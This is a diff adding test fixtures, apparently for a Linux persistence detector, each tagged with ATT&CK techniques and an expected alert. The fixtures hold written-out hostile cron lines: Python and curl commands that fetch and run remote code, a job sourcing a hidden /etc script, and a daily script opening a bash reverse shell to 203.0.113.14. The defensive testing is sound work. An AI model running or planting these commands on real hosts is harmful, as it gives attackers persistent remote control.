@@ -143,4 +143,40 @@ BEHAVIOURS = (
             "ExecStart=/bin/sh -c 'curl -s http://203.0.113.11/t.sh | sh'\n",
         },
     ),
+    Behaviour(
+        name="cron_fetches_code_by_python",
+        techniques=("T1053.003", "T1105", "T1059.006"),
+        does="A job lets Python fetch code and run it.",
+        marks=("203.0.113.12/",),
+        raises=("cron_job_fetch_and_run",),
+        files={
+            "/etc/cron.d/stats": '*/9 * * * * root python3 -c "import urllib.request as u;'
+            "exec(u.urlopen('http://203.0.113.12/').read())\"\n"
+        },
+    ),
+    Behaviour(
+        name="cron_fetches_script_and_runs_it_next",
+        techniques=("T1053.003", "T1105"),
+        does="A job keeps a download as a file and runs it in the next step.",
+        marks=("203.0.113.13/a",),
+        raises=("cron_job_fetch_and_run",),
+        files={"/etc/cron.d/lists": "9 * * * * root curl -s 203.0.113.13/a -o /usr/lib/a.sh && sh /usr/lib/a.sh\n"},
+    ),
+    Behaviour(
+        name="cron_reads_in_hidden_script",
+        techniques=("T1053.003", "T1564.001"),
+        does="A job reads a script in that lies in a hidden directory of /etc.",
+        marks=("/etc/.conf/env",),
+        raises=("cron_job_hidden_program",),
+        files={"/etc/cron.d/env": "9 * * * * root . /etc/.conf/env\n"},
+    ),
+    Behaviour(
+        name="daily_script_opens_shell",
+        techniques=("T1053.003", "T1059.004"),
+        does="A script that runs each day opens a shell.",
+        marks=("/etc/cron.daily/zz-man",),
+        raises=("cron_job_script_fetches_or_decodes_code",),
+        files={"/etc/cron.daily/zz-man": "#!/bin/sh\nbash -c 'bash -i >& /dev/tcp/203.0.113.14/1 0>&1'\n"},
+        modes={"/etc/cron.daily/zz-man": 0o755},
+    ),
 )
